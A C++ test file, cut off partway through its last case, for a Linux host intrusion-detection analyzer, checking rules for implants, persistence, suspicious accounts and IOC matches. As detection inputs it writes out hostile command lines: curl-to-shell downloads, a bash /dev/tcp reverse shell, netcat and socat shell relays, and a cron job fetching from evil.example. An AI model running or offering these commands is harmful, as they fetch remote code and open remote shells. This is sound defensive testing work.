// The finding rules (agent/analysis): each fires on a record that shows it and stays quiet on
// the benign look-alike. Records are built by hand, as the collectors would emit them.
#include <catch2/catch.hpp>
#include <set>

#include <algorithm>

#include <functional>

#include "agent/analysis/analyzer.h"
#include "agent/analysis/catalog.h"
#include "agent/analysis/ioc.h"
#include "platform/digest.h"
#include "agent/analysis/patterns.h"

using namespace hozen;
using analysis::Analyzer;

namespace {

constexpr std::int64_t kNow = 1'780'000'000'000'000'000;  // 2026-05-28
constexpr std::int64_t kDay = 86'400'000'000'000;

struct Bundle {
  std::vector<v1::Record> records;
  v1::Record& add(const std::function<void(v1::Record&)>& fill) {
    v1::Record& r = records.emplace_back();
    r.set_index(records.size() - 1);
    fill(r);
    return r;
  }
  Analyzer::Result analyze() const {
    analysis::AnalysisOptions o;
    o.now_utc_ns = kNow;
    Analyzer a(o);
    for (const auto& r : records) a.observe(r);
    return a.finish();
  }
};

std::vector<const v1::Finding*> with_rule(const Analyzer::Result& res, std::string_view id) {
  std::vector<const v1::Finding*> out;
  for (const auto& f : res.findings) {
    if (f.rule_id() == id) out.push_back(&f);
  }
  return out;
}

v1::Process& process(v1::Record& r, int pid, const std::string& comm, const std::string& exe) {
  auto& p = *r.mutable_process();
  p.set_pid(pid);
  p.set_start_ticks(1000 + pid);
  p.set_comm(comm);
  p.set_exe_path(exe);
  p.add_argv(exe);
  return p;
}

v1::Socket& socket(v1::Record& r, v1::SocketClass cls, const std::string& local, std::uint32_t lport,
                   const std::string& remote, std::uint32_t rport, int owner_pid) {
  auto& k = *r.mutable_socket();
  k.set_protocol("tcp");
  k.set_family(local.find(':') == std::string::npos ? 2 : 10);
  k.set_local_address(local);
  k.set_local_port(lport);
  k.set_remote_address(remote);
  k.set_remote_port(rport);
  k.set_classification(cls);
  k.set_netns(4026531840u);
  if (owner_pid > 0) {
    auto* o = k.add_owners();
    o->set_pid(owner_pid);
    o->set_start_ticks(1000 + static_cast<std::uint64_t>(owner_pid));
  }
  return k;
}

}  // namespace

TEST_CASE("analysis patterns: paths, programs and command red flags", "[analysis]") {
  using namespace analysis;
  CHECK(in_temp_dir("/tmp/x"));
  CHECK(in_temp_dir("/dev/shm/.a/b"));
  CHECK_FALSE(in_temp_dir("/tmpfoo/x"));
  CHECK(in_unusual_hidden_dir("/var/lib/.hid/x"));
  CHECK(in_unusual_hidden_dir("/home/a/.x/bin"));
  CHECK_FALSE(in_unusual_hidden_dir("/home/a/.local/bin/tool"));
  CHECK_FALSE(in_unusual_hidden_dir("/home/a/.bashrc"));  // a hidden file, not a hidden directory
  CHECK(without_deleted_suffix("/usr/bin/x (deleted)") == "/usr/bin/x");
  CHECK(is_shell_or_relay("bash"));
  CHECK(is_interpreter("python3.11"));
  CHECK_FALSE(is_interpreter("pythonista"));
  CHECK(program_of("PATH=/x nohup /tmp/.a/run --daemon") == "/tmp/.a/run");
  CHECK(program_of("sh /var/tmp/x.sh") == "/var/tmp/x.sh");
  CHECK(program_of("sh -c 'echo hi'") == "sh");
  auto flags = [](std::string_view c) { return command_red_flags(c); };
  CHECK(flags("curl -fsSL http://x.example/a | bash") == std::vector<std::string>{"download_pipe_shell"});
  CHECK(flags("wget -q -O- http://1.2.3.4/s|sudo sh") == std::vector<std::string>{"download_pipe_shell"});
  CHECK(flags("echo aGk= | base64 -d | sh") == std::vector<std::string>{"base64_decode"});
  CHECK(flags("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == std::vector<std::string>{"dev_tcp"});
  CHECK(flags("nc -e /bin/sh 10.0.0.1 4444") == std::vector<std::string>{"netcat_exec"});
  CHECK(flags("wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a") ==
        std::vector<std::string>{"download_chmod_exec", "runs_from_temp"});
  CHECK(flags("bash <(curl -s http://x/i)") == std::vector<std::string>{"download_pipe_shell"});
  CHECK(flags("sh -c \"$(curl -fsSL http://x/i)\"") == std::vector<std::string>{"download_pipe_shell"});
  CHECK(flags("curl -so /tmp/x http://x/x; sh /tmp/x") == std::vector<std::string>{"runs_from_temp"});
  CHECK(flags("socat TCP:10.0.0.1:4444 EXEC:/bin/bash") == std::vector<std::string>{"netcat_exec"});
  CHECK(flags("/dev/shm/.k") == std::vector<std::string>{"runs_from_temp"});
  // Benign look-alikes.
  CHECK(flags("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )").empty());
  CHECK(flags("find /tmp -type f -mtime +10 -delete").empty());
  CHECK(flags("curl -s https://example.com/health > /dev/null").empty());
  CHECK(flags("/usr/bin/base64 /etc/hostname").empty());
  CHECK(flags("flock -n /tmp/job.lock /usr/local/bin/backup").empty());  // the lock file is not run
  CHECK(flags("nc -C mail.example 25 < /etc/motd").empty());            // -C: CRLF, not -c
  // One pass: a crafted 4 MiB line of repeated words costs linear time (no timing asserted; a
  // quadratic scan would take minutes here).
  std::string huge;
  for (int i = 0; i < 500'000; ++i) huge += "base64 socat ";
  CHECK(flags(huge).empty());
}

TEST_CASE("analysis: every rule id the analyzer can raise is in the catalog, with both languages", "[analysis]") {
  for (const auto& r : analysis::all_rules()) {
    CHECK_FALSE(r.title_en.empty());
    CHECK_FALSE(r.title_ja.empty());
    CHECK_FALSE(r.explanation_en.empty());
    CHECK_FALSE(r.explanation_ja.empty());
    CHECK(r.checklist_id.size() == 2);
    CHECK(&analysis::rule(r.id) == &r);
  }
  CHECK_THROWS(analysis::rule("no-such-rule"));
}

TEST_CASE("analysis: processes with deleted, memory or temporary executables", "[analysis]") {
  Bundle b;
  b.add([](auto& r) { process(r, 10, "implant", "/tmp/.x/implant (deleted)").set_exe_deleted(true); });
  b.add([](auto& r) { process(r, 11, "sshd", "/usr/sbin/sshd (deleted)").set_exe_deleted(true); });
  b.add([](auto& r) { process(r, 12, "x", "/memfd:payload (deleted)").set_exe_deleted(true); });
  b.add([](auto& r) { process(r, 13, "nginx", "/usr/sbin/nginx"); });
  b.add([](auto& r) { process(r, 14, "agent", "/home/u/.local/bin/agent"); });
  b.add([](auto& r) { process(r, 15, "self", "/tmp/hozen").set_collector_self(true); });
  auto res = b.analyze();
  auto deleted = with_rule(res, "HZ-PROC-DELETED-EXE");
  REQUIRE(deleted.size() == 2);
  CHECK(deleted[0]->severity() == v1::SEVERITY_HIGH);  // sorted: the temp one first
  CHECK(deleted[0]->subject() == "/tmp/.x/implant");
  CHECK(deleted[1]->severity() == v1::SEVERITY_MEDIUM);  // an upgraded system binary
  auto memfd = with_rule(res, "HZ-PROC-MEMFD-EXE");
  REQUIRE(memfd.size() == 1);
  CHECK(memfd[0]->severity() == v1::SEVERITY_MEDIUM);  // runc and sandboxes do it too
  auto suspect = with_rule(res, "HZ-PROC-SUSPECT-PATH");
  REQUIRE(suspect.size() == 1);
  CHECK(suspect[0]->checklist_id() == "H1");
  REQUIRE(suspect[0]->evidence_size() == 1);
  CHECK(suspect[0]->evidence(0).record_index() == 0);
  CHECK(suspect[0]->title_ja().find("一時ディレクトリ") != std::string::npos);
}

TEST_CASE("analysis: listeners and connections joined to their owners", "[analysis]") {
  Bundle b;
  b.add([](auto& r) { process(r, 20, "backdoor", "/dev/shm/bd"); });
  b.add([](auto& r) { process(r, 21, "sshd", "/usr/sbin/sshd"); });
  b.add([](auto& r) { process(r, 22, "bash", "/usr/bin/bash"); });
  b.add([](auto& r) { process(r, 23, "python3", "/usr/bin/python3.11"); });
  b.add([](auto& r) { socket(r, v1::LISTENING, "0.0.0.0", 4444, "0.0.0.0", 0, 20); });
  b.add([](auto& r) { socket(r, v1::LISTENING, "::", 22, "::", 0, 21); });
  b.add([](auto& r) { socket(r, v1::LISTENING, "127.0.0.1", 631, "0.0.0.0", 0, 21); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 40000, "203.0.113.9", 443, 22); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 22, "198.51.100.7", 50000, 21); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 40001, "192.0.2.10", 8080, 23); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "127.0.0.1", 40002, "127.0.0.1", 5432, 22); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 40003, "203.0.113.50", 443, 20); });
  auto res = b.analyze();
  auto implant = with_rule(res, "HZ-NET-SUSPECT-BINARY-CONNECTION");
  REQUIRE(implant.size() == 1);
  CHECK(implant[0]->subject() == "203.0.113.50");
  CHECK(implant[0]->severity() == v1::SEVERITY_HIGH);
  auto bad = with_rule(res, "HZ-NET-LISTENER-SUSPECT-BINARY");
  REQUIRE(bad.size() == 1);
  CHECK(bad[0]->summary().find("0.0.0.0:4444") != std::string::npos);
  REQUIRE(bad[0]->evidence_size() == 2);
  CHECK(bad[0]->evidence(1).record_index() == 0);
  auto listeners = with_rule(res, "HZ-NET-LISTENERS");
  REQUIRE(listeners.size() == 1);
  CHECK(listeners[0]->evidence_size() == 2);  // not the loopback one
  CHECK(listeners[0]->severity() == v1::SEVERITY_INFO);
  auto shells = with_rule(res, "HZ-NET-SHELL-CONNECTION");
  REQUIRE(shells.size() == 2);
  CHECK(shells[0]->severity() == v1::SEVERITY_HIGH);  // bash to 203.0.113.9
  CHECK(shells[0]->subject() == "203.0.113.9");
  CHECK(shells[1]->severity() == v1::SEVERITY_MEDIUM);  // python outbound
  auto outbound = with_rule(res, "HZ-NET-OUTBOUND");
  REQUIRE(outbound.size() == 1);
  CHECK(outbound[0]->evidence_size() == 3);  // not the inbound ssh session, not loopback
}

TEST_CASE("analysis: scheduled tasks and services that fetch, decode or run from temp", "[analysis]") {
  Bundle b;
  b.add([](auto& r) {
    auto& c = *r.mutable_cron_entry();
    c.set_line_kind(v1::CRON_LINE_JOB);
    c.set_command_line("curl -s http://evil.example/x | sh");
    c.set_run_as("root");
  });
  b.add([](auto& r) {
    auto& c = *r.mutable_cron_entry();
    c.set_line_kind(v1::CRON_LINE_JOB);
    c.set_command_line("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )");
  });
  b.add([](auto& r) {
    auto& c = *r.mutable_cron_entry();
    c.set_line_kind(v1::CRON_LINE_ENVIRONMENT);
    c.set_command_line("curl x | sh");  // not a job: never run
  });
  b.add([](auto& r) {
    auto& u = *r.mutable_systemd_unit();
    u.set_name("updater.service");
    auto* e = u.add_exec();
    e->set_directive("ExecStart");
    e->add_argv("/var/tmp/.u/updater");
  });
  b.add([](auto& r) {
    auto& u = *r.mutable_systemd_unit();
    u.set_name("ssh.service");
    auto* e = u.add_exec();
    e->set_directive("ExecStart");
    e->add_argv("/usr/sbin/sshd");
    e->add_argv("-D");
  });
  b.add([](auto& r) {
    auto& t = *r.mutable_systemd_timer();
    t.set_name("x.timer");
    auto* e = t.add_exec();
    e->add_argv("/bin/bash");
    e->add_argv("-c");
    e->add_argv("echo Y3VybCB4 | base64 -d | bash");
  });
  auto res = b.analyze();
  auto tasks = with_rule(res, "HZ-TASK-SUSPECT-COMMAND");
  REQUIRE(tasks.size() == 2);
  CHECK(tasks[0]->checklist_id() == "H3");
  CHECK(tasks[0]->summary().find("download_pipe_shell") != std::string::npos);
  CHECK(tasks[1]->summary().find("base64_decode") != std::string::npos);
  auto services = with_rule(res, "HZ-SERVICE-SUSPECT-COMMAND");
  REQUIRE(services.size() == 1);
  CHECK(services[0]->summary().find("runs_from_temp") != std::string::npos);
}

TEST_CASE("analysis: accounts, escalation attempts and admin logins from new sources", "[analysis]") {
  Bundle b;
  auto user = [&](const std::string& name, std::uint32_t uid, std::vector<std::string> groups) {
    b.add([&](auto& r) {
      auto& u = *r.mutable_user_account();
      u.set_name(name);
      u.set_uid(uid);
      u.set_shell("/bin/bash");
      u.set_shell_is_login(true);
      u.set_password_state(v1::PASSWORD_SET);
      for (auto& g : groups) u.add_supplementary_groups(g);
      if (uid == 0 && name != "root") u.set_uid0_not_root(true);
    });
  };
  user("root", 0, {});
  user("toor", 0, {});
  user("alice", 1000, {"sudo"});
  user("bob", 1001, {"users"});
  b.add([](auto& r) {
    auto& u = *r.mutable_user_account();
    u.set_name("guest");
    u.set_uid(1002);
    u.set_shell_is_login(true);
    u.set_password_state(v1::PASSWORD_EMPTY);
  });
  b.add([](auto& r) {
    auto& s = *r.mutable_sudoers_rule();
    s.set_principal("%sudo");  // %sudo ALL=(ALL:ALL) ALL
    s.set_principal_kind("group");
    s.set_is_group(true);
    s.set_can_become_root(true);
    s.set_all_commands_as_root(true);
  });
  auto auth = [&](const std::string& kind, const std::string& who, bool ok, const std::string& src, std::int64_t t) {
    b.add([&](auto& r) {
      auto& e = *r.mutable_auth_event();
      e.set_kind(kind);
      e.set_user(who);
      e.set_success(ok);
      e.set_source_address(src);
      e.set_time_utc_ns(t);
      if (kind == "sudo" && !ok) e.set_failure_reason("user NOT in sudoers");
    });
  };
  auth("sudo", "bob", false, "", kNow - 2 * kDay);
  auth("sudo", "bob", false, "", kNow - kDay);
  auth("sudo", "alice", false, "", kNow - kDay);  // allowed (group sudo): a typo, not a finding
  auth("ssh_login", "alice", true, "192.0.2.1", kNow - 30 * kDay);
  auth("ssh_login", "alice", true, "192.0.2.1", kNow - 3 * kDay);
  auth("ssh_login", "alice", true, "203.0.113.66", kNow - 2 * kDay);
  auth("ssh_login", "bob", true, "198.51.100.1", kNow - kDay);  // not an admin
  auto res = b.analyze();
  auto uid0 = with_rule(res, "HZ-USER-UID0");
  REQUIRE(uid0.size() == 1);
  CHECK(uid0[0]->subject() == "toor");
  CHECK(with_rule(res, "HZ-USER-EMPTY-PASSWORD").size() == 1);
  auto esc = with_rule(res, "HZ-AUTH-UNPRIVILEGED-ESCALATION");
  REQUIRE(esc.size() == 1);
  CHECK(esc[0]->subject() == "bob");
  CHECK(esc[0]->evidence_size() == 2);
  CHECK(esc[0]->checklist_id() == "A2");
  auto fresh = with_rule(res, "HZ-AUTH-ADMIN-NEW-SOURCE");
  REQUIRE(fresh.size() == 1);
  CHECK(fresh[0]->subject() == "203.0.113.66");
}

TEST_CASE("analysis: login history shorter than two weeks has no baseline", "[analysis]") {
  Bundle b;
  for (int i = 0; i < 3; ++i) {
    b.add([&](auto& r) {
      auto& e = *r.mutable_auth_event();
      e.set_kind("ssh_login");
      e.set_user("root");
      e.set_success(true);
      e.set_source_address("192.0.2." + std::to_string(i));
      e.set_time_utc_ns(kNow - (3 - i) * kDay);
    });
  }
  CHECK(with_rule(b.analyze(), "HZ-AUTH-ADMIN-NEW-SOURCE").empty());
}

TEST_CASE("analysis: persistence, hidden processes, kernel and swept files", "[analysis]") {
  Bundle b;
  b.add([](auto& r) {
    auto& p = *r.mutable_persistence_entry();
    p.set_kind("authorized_key");
    p.set_path("/root/.ssh/authorized_keys");
    p.set_command("/usr/bin/nc -l 5555");
    p.add_flags("forced_command");
    p.mutable_file()->set_mtime_utc_ns(kNow - 2 * kDay);
  });
  b.add([](auto& r) {
    auto& p = *r.mutable_persistence_entry();
    p.set_kind("authorized_key");
    p.set_path("/home/a/.ssh/authorized_keys");
    p.mutable_file()->set_mtime_utc_ns(kNow - 400 * kDay);
  });
  b.add([](auto& r) {
    auto& p = *r.mutable_persistence_entry();
    p.set_kind("ld_preload");
    p.set_path("/etc/ld.so.preload");
    p.set_command("/lib/x86_64-linux-gnu/libhide.so");
  });
  b.add([](auto& r) {
    auto& p = *r.mutable_persistence_entry();
    p.set_kind("pam_rule");
    p.add_flags("module_outside_standard_dirs");
    p.mutable_pam()->set_module("/tmp/pam_x.so");
  });
  b.add([](auto& r) {
    auto& p = *r.mutable_persistence_entry();
    p.set_kind("pam_rule");
    p.mutable_pam()->set_module("pam_unix.so");
  });
  b.add([](auto& r) {
    auto& h = *r.mutable_hidden_process();
    h.set_pid(31337);
    h.set_finding("not_in_readdir");
  });
  b.add([](auto& r) {
    auto& h = *r.mutable_hidden_process();
    h.set_pid(4);
    h.set_collector_self(true);
  });
  b.add([](auto& r) {
    r.mutable_kernel_module()->set_name("diamorphine");
    r.mutable_kernel_module()->set_hidden_from_proc_modules(true);
  });
  b.add([](auto& r) { r.mutable_kernel_module()->set_name("ext4"); });
  b.add([](auto& r) {
    r.mutable_kernel_taint()->set_value(4096);
    r.mutable_kernel_taint()->add_flags("O out-of-tree module");
  });
  auto file = [&](const std::string& path, std::vector<std::string> flags, v1::PackageCheck check) {
    b.add([&](auto& r) {
      auto& f = *r.mutable_file_entry();
      f.set_path(path);
      f.set_mode(0104755);
      f.set_header_kind("elf");
      for (auto& x : flags) f.add_flags(x);
      f.set_package_check(check);
      f.set_package("coreutils");
    });
  };
  file("/tmp/.x/miner", {"elf_in_temp", "hidden_in_temp"}, v1::PACKAGE_CHECK_UNSPECIFIED);
  file("/tmp/.x/miner.conf.sh", {"script_in_temp", "hidden_in_temp"}, v1::PACKAGE_CHECK_UNSPECIFIED);
  b.add([](auto& r) {  // a script alone: medium
    auto& f = *r.mutable_file_entry();
    f.set_path("/var/tmp/install.sh");
    f.set_header_kind("script");
    f.add_flags("script_in_temp");
  });
  b.add([](auto& r) {  // a vendored script rewritten in place by npm: medium
    auto& f = *r.mutable_file_entry();
    f.set_path("/usr/lib/node_modules/npm/bin/npx-cli.js");
    f.set_mode(0100755);
    f.set_header_kind("script");
    f.set_package_check(v1::PACKAGE_MD5_MISMATCH);
    f.set_package("nodejs");
  });
  file("/usr/bin/ls", {}, v1::PACKAGE_MD5_MISMATCH);
  file("/usr/bin/passwd", {"suid"}, v1::PACKAGE_MD5_MATCH);
  file("/usr/local/bin/rootme", {"suid"}, v1::PACKAGE_CHECK_UNSPECIFIED);
  file("/var/lib/.cache-x/kworker", {"elf_in_hidden_dir"}, v1::PACKAGE_CHECK_UNSPECIFIED);
  file("/root/.cargo/bin/rustup", {"elf_in_hidden_dir"}, v1::PACKAGE_CHECK_UNSPECIFIED);  // a toolchain
  file("/usr/bin/cat", {}, v1::PACKAGE_MD5_MATCH);
  auto res = b.analyze();
  CHECK(with_rule(res, "HZ-SSH-KEY-FORCED-COMMAND").size() == 1);
  auto recent = with_rule(res, "HZ-SSH-KEY-RECENT");
  REQUIRE(recent.size() == 1);
  CHECK(recent[0]->subject() == "/root/.ssh/authorized_keys");
  CHECK(with_rule(res, "HZ-LD-SO-PRELOAD").size() == 1);
  CHECK(with_rule(res, "HZ-PAM-NONSTANDARD-MODULE").size() == 1);
  auto hidden = with_rule(res, "HZ-PROC-HIDDEN");
  REQUIRE(hidden.size() == 1);
  CHECK(hidden[0]->severity() == v1::SEVERITY_CRITICAL);
  CHECK(with_rule(res, "HZ-KMOD-HIDDEN").size() == 1);
  CHECK(with_rule(res, "HZ-KERNEL-TAINTED").size() == 1);
  // Files are grouped by place: one finding per temp directory, one per package.
  auto temp = with_rule(res, "HZ-FILE-EXEC-IN-TEMP");
  REQUIRE(temp.size() == 2);
  CHECK(temp[0]->subject() == "/tmp/.x");
  CHECK(temp[0]->severity() == v1::SEVERITY_HIGH);  // holds an ELF binary
  CHECK(temp[0]->evidence_size() == 2);
  CHECK(temp[1]->subject() == "/var/tmp/install.sh");
  CHECK(temp[1]->severity() == v1::SEVERITY_MEDIUM);
  auto modified = with_rule(res, "HZ-FILE-PACKAGE-MODIFIED");
  REQUIRE(modified.size() == 2);
  CHECK(modified[0]->subject() == "coreutils");
  CHECK(modified[0]->severity() == v1::SEVERITY_HIGH);  // /usr/bin/ls
  CHECK(modified[0]->summary().find("/usr/bin/ls") != std::string::npos);
  CHECK(modified[1]->subject() == "nodejs");
  CHECK(modified[1]->severity() == v1::SEVERITY_MEDIUM);
  auto hidden_dir = with_rule(res, "HZ-FILE-EXEC-IN-HIDDEN-DIR");
  REQUIRE(hidden_dir.size() == 1);
  CHECK(hidden_dir[0]->subject() == "/var/lib/.cache-x");
  auto suid = with_rule(res, "HZ-FILE-SUID-UNPACKAGED");
  REQUIRE(suid.size() == 1);
  CHECK(suid[0]->subject() == "/usr/local/bin");  // one finding per directory
  CHECK(suid[0]->severity() == v1::SEVERITY_HIGH);
  CHECK(suid[0]->summary().find("/usr/local/bin/rootme") != std::string::npos);
  // The summary counts what was found, by severity.
  std::uint64_t total = 0;
  for (const auto& c : res.summary.counts()) total += c.count();
  CHECK(total == res.findings.size());
  CHECK(res.summary.records_analyzed() == b.records.size());
}

TEST_CASE("analysis: a clean host raises no high-severity finding", "[analysis]") {
  Bundle b;
  b.add([](auto& r) { process(r, 1, "systemd", "/usr/lib/systemd/systemd"); });
  b.add([](auto& r) { process(r, 2, "sshd", "/usr/sbin/sshd"); });
  b.add([](auto& r) { socket(r, v1::LISTENING, "0.0.0.0", 22, "0.0.0.0", 0, 2); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 22, "192.0.2.3", 51000, 2); });
  b.add([](auto& r) {
    auto& u = *r.mutable_user_account();
    u.set_name("root");
    u.set_uid(0);
  });
  b.add([](auto& r) { r.mutable_kernel_taint()->set_value(0); });
  auto res = b.analyze();
  for (const auto& f : res.findings) {
    INFO(f.rule_id() << ": " << f.summary());
    CHECK(f.severity() < v1::SEVERITY_MEDIUM);
  }
  // Without a file sweep, H4 says it was not checked rather than nothing.
  auto coverage = with_rule(res, "HZ-COVERAGE-NO-FILE-SWEEP");
  REQUIRE(coverage.size() == 1);
  CHECK(coverage[0]->checklist_id() == "H4");
  CHECK(coverage[0]->severity() == v1::SEVERITY_INFO);
}

TEST_CASE("analysis: processes and services whose program anyone can overwrite", "[analysis]") {
  Bundle b;
  b.add([](auto& r) { process(r, 40, "app", "/opt/app/run"); });
  b.add([](auto& r) { process(r, 41, "ok", "/opt/app/ok"); });
  b.add([](auto& r) {
    auto& u = *r.mutable_systemd_unit();
    u.set_name("svc.service");
    auto* e = u.add_exec();
    e->set_directive("ExecStart");
    e->add_argv("/usr/local/bin/svc");
  });
  auto file = [&](const std::string& path, std::uint32_t mode) {
    b.add([&](auto& r) {
      r.mutable_file_entry()->set_path(path);
      r.mutable_file_entry()->set_mode(mode);
    });
  };
  file("/opt/app/run", 0100777);
  file("/opt/app/ok", 0100755);
  file("/usr/local/bin/svc", 0100757);
  auto res = b.analyze();
  auto procs = with_rule(res, "HZ-PROC-SUSPECT-PATH");
  REQUIRE(procs.size() == 1);
  CHECK(procs[0]->subject() == "/opt/app/run");
  CHECK(procs[0]->evidence_size() == 2);
  auto svc = with_rule(res, "HZ-SERVICE-SUSPECT-COMMAND");
  REQUIRE(svc.size() == 1);
  CHECK(svc[0]->summary().find("world_writable") != std::string::npos);
}

TEST_CASE("analysis review fixes: upgrades, links, no dpkg, narrow sudo rules, pseudo-hosts", "[analysis]") {
  Bundle b;
  // sshd upgraded without restart: its listener and sessions are not an implant's.
  b.add([](auto& r) { process(r, 50, "sshd", "/usr/sbin/sshd (deleted)").set_exe_deleted(true); });
  b.add([](auto& r) { socket(r, v1::LISTENING, "0.0.0.0", 22, "0.0.0.0", 0, 50); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 22, "192.0.2.3", 50000, 50); });
  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 41000, "192.0.2.4", 443, 50); });
  // A symlink's mode is 0777: not a world-writable program.
  b.add([](auto& r) {
    auto& u = *r.mutable_systemd_unit();
    u.set_name("py.service");
    u.add_exec()->add_argv("/usr/bin/python3");
  });
  b.add([](auto& r) {
    r.mutable_file_entry()->set_path("/usr/bin/python3");
    r.mutable_file_entry()->set_mode(0120777);
  });
  // No dpkg database: a set-uid file under /usr/bin is not "unpackaged".
  b.add([](auto& r) {
    auto& f = *r.mutable_file_entry();
    f.set_path("/usr/bin/sudo");
    f.set_mode(0104755);
    f.add_flags("suid");
  });
  // Accounts: carol may run one command as root, dave is admin through "#1003".
  for (auto [name, uid] : {std::pair{"carol", 1002u}, std::pair{"dave", 1003u}}) {
    b.add([&](auto& r) {
      r.mutable_user_account()->set_name(name);
      r.mutable_user_account()->set_uid(uid);
    });
  }
  b.add([](auto& r) {
    auto& s = *r.mutable_sudoers_rule();
    s.set_principal("ALL");
    s.set_principal_kind("all");
    s.set_can_become_root(true);  // (root) /usr/bin/uptime only
  });
  b.add([](auto& r) {
    auto& s = *r.mutable_sudoers_rule();
    s.set_principal("#1003");
    s.set_principal_kind("uid");
    s.set_can_become_root(true);
    s.set_all_commands_as_root(true);
  });
  for (const char* who : {"carol", "dave"}) {
    b.add([&](auto& r) {
      auto& e = *r.mutable_auth_event();
      e.set_kind("sudo");
      e.set_user(who);
      e.set_time_utc_ns(kNow - kDay);
    });
  }
  // Logins from tmux and an X display are not network sources.
  for (int i = 0; i < 3; ++i) {
    b.add([&](auto& r) {
      auto& l = *r.mutable_login_record();
      l.set_log("wtmp");
      l.set_entry_type("USER_PROCESS");
      l.set_user("root");
      l.set_host(i == 0 ? "192.0.2.9" : i == 1 ? "tmux(1234).%0" : ":0");
      l.set_time_utc_ns(kNow - (i == 0 ? 30 : 1) * kDay);
    });
  }
  auto res = b.analyze();
  CHECK(with_rule(res, "HZ-NET-LISTENER-SUSPECT-BINARY").empty());
  CHECK(with_rule(res, "HZ-NET-SUSPECT-BINARY-CONNECTION").empty());
  REQUIRE(with_rule(res, "HZ-PROC-DELETED-EXE").size() == 1);
  CHECK(with_rule(res, "HZ-PROC-DELETED-EXE")[0]->severity() == v1::SEVERITY_MEDIUM);
  CHECK(with_rule(res, "HZ-SERVICE-SUSPECT-COMMAND").empty());
  CHECK(with_rule(res, "HZ-FILE-SUID-UNPACKAGED").empty());
  auto esc = with_rule(res, "HZ-AUTH-UNPRIVILEGED-ESCALATION");
  REQUIRE(esc.size() == 1);
  CHECK(esc[0]->subject() == "carol");
  CHECK(with_rule(res, "HZ-AUTH-ADMIN-NEW-SOURCE").empty());
}

TEST_CASE("analysis: IOC matches are grouped per indicator and record type", "[analysis][ioc]") {
  auto iocs = analysis::IndicatorSet::parse("203.0.113.7\nprocess:xmrig\n", "list.txt");
  REQUIRE(iocs);
  analysis::AnalysisOptions o;
  o.now_utc_ns = kNow;
  o.iocs = &*iocs;
  Analyzer a(o);
  for (std::uint64_t i = 0; i < 1000; ++i) {
    v1::Record r;
    r.set_index(i);
    auto& e = *r.mutable_auth_event();
    e.set_kind("ssh_invalid_user");
    e.set_user("admin");
    e.set_source_address("203.0.113.7");
    a.observe(r);
  }
  v1::Record p;
  p.set_index(1000);
  process(p, 7, "xmrig", "/usr/bin/xmrig");
  a.observe(p);
  auto res = a.finish();
  auto hits = with_rule(res, "IOC-MATCH");
  REQUIRE(hits.size() == 2);
  for (const auto* f : hits) {
    CHECK(f->severity() == v1::SEVERITY_CRITICAL);
    CHECK(f->evidence_size() <= 32);
    REQUIRE(f->indicators_size() >= 1);
    CHECK(f->indicators(0).ioc_source().starts_with("list.txt:"));
  }
  const auto* auth = hits[0]->subject() == "203.0.113.7" ? hits[0] : hits[1];
  CHECK(auth->checklist_id() == "A2");
  CHECK(auth->summary().find("matched 1000 auth_event record(s)") != std::string::npos);
}

TEST_CASE("analysis: MD5 and SHA-1 indicators match a deleted process executable", "[analysis][ioc]") {
  auto iocs = analysis::IndicatorSet::parse(
      "d41d8cd98f00b204e9800998ecf8427e\nda39a3ee5e6b4b0d3255bfef95601890afd80709\n", "list.txt");
  REQUIRE(iocs);
  analysis::AnalysisOptions o;
  o.now_utc_ns = kNow;
  o.iocs = &*iocs;
  Analyzer a(o);
  v1::Record p;
  p.set_index(1);
  process(p, 7, "implant", "/tmp/implant (deleted)");
  p.mutable_process()->set_exe_md5(platform::Digest::of(platform::DigestAlgorithm::kMd5, ""));
  p.mutable_process()->set_exe_sha1(platform::Digest::of(platform::DigestAlgorithm::kSha1, ""));
  a.observe(p);
  auto res = a.finish();
  auto hits = with_rule(res, "IOC-MATCH");
  REQUIRE(hits.size() == 2);
  std::set<std::string> fields;
  for (const auto* f : hits) {
    REQUIRE(f->indicators_size() >= 1);
    fields.insert(f->indicators(0).matched_field());
  }
  CHECK(fields == std::set<std::string>{"process.exe_md5", "process.exe_sha1"});
}

TEST_CASE("analysis: terminal lines escape what a terminal would act on", "[analysis]") {
  using analysis::terminal_safe;
  CHECK(terminal_safe("plain /tmp/x") == "plain /tmp/x");
  CHECK(terminal_safe("\x1b[31mred") == "\\x1b[31mred");
  CHECK(terminal_safe("\xff\x80\x80") == "\\xff\\x80\\x80");
  CHECK(terminal_safe("\xe2\x80\xae" "gpj.exe") == "\\xe2\\x80\\xaegpj.exe");  // RLO
  CHECK(terminal_safe("\xc2\x9b" "c") == "\\xc2\\x9bc");                      // C1 CSI
  CHECK(terminal_safe("\xe3\x83\x95\xe3\x82\xa1\xe3\x82\xa4\xe3\x83\xab") == "\xe3\x83\x95\xe3\x82\xa1\xe3\x82\xa4\xe3\x83\xab");
  CHECK(terminal_safe("\xed\xa0\x80") == "\\xed\\xa0\\x80");  // a surrogate
}

TEST_CASE("analysis: file findings stay bounded on a crafted tree", "[analysis]") {
  // 20,000 set-uid files in one directory are one finding; 6,000 directories each with an ELF in
  // a temp dir fold, past the cap on places, into one "(other places)" group.
  Bundle b;
  for (int i = 0; i < 20000; ++i) {
    b.add([i](auto& r) {
      auto& f = *r.mutable_file_entry();
      f.set_path("/opt/x/suid" + std::to_string(i));
      f.set_mode(0104755);
      f.set_uid(1000);
      f.add_flags("suid");
    });
  }
  for (int i = 0; i < 6000; ++i) {
    b.add([i](auto& r) {
      auto& f = *r.mutable_file_entry();
      f.set_path("/tmp/d" + std::to_string(i) + "/x");
      f.set_mode(0100755);
      f.set_header_kind("elf");
      f.add_flags("elf_in_temp");
    });
  }
  // A root-owned set-uid backdoor among a user's own set-gid files, after 5,000 flooded places of
  // another rule: still its own finding, named among the examples and in the evidence.
  b.add([](auto& r) {
